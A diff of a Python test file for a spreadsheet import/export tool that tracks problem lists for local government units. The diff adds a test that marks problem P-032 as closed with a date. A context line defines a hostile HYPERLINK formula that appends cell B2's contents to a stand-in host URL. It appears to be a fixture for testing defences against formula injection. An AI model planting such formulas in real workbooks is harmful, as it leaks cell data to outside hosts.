@@ -190,6 +190,21 @@ def test_a_row_the_unit_left_alone_is_no_conflict_when_its_record_changed(repo: 
     text = path.read_text(encoding="utf-8")
     assert "新措施" in text and "推进周边乡镇污水管网全部接入，" in text
 
+
+def test_a_unit_may_write_yi_xiaohao_in_the_closed_column(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    book = load_workbook(_export(capsys, repo, tmp_path / "xl.xlsx", "--unit", "xiling-county", "--kind", "problems"))
+    sheet = book["问题清单"]
+    row = _row(sheet, "P-032")
+    sheet.cell(row=row, column=_column(sheet, "是否销号")).value = "已销号"
+    sheet.cell(row=row, column=_column(sheet, "销号时间")).value = dt.datetime(2023, 12, 20)
+    sheet.cell(row=row, column=_column(sheet, "销号依据")).value = "薄弱村占比降至18%。"
+    book.save(tmp_path / "back.xlsx")
+    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
+    assert ran.code == 0, ran.err
+    assert "是否销号：否 → 是" in ran.out
+    problems = {e.record.id: e.record for e in load_repository(repo, SUITE).repo.entries("problem")}
+    assert problems["P-032"].closed_on.first == dt.date(2023, 12, 20)  # type: ignore[attr-defined]
+
 HOSTILE = '=HYPERLINK("http://example.invalid/?"&B2,"点击")'
 
 
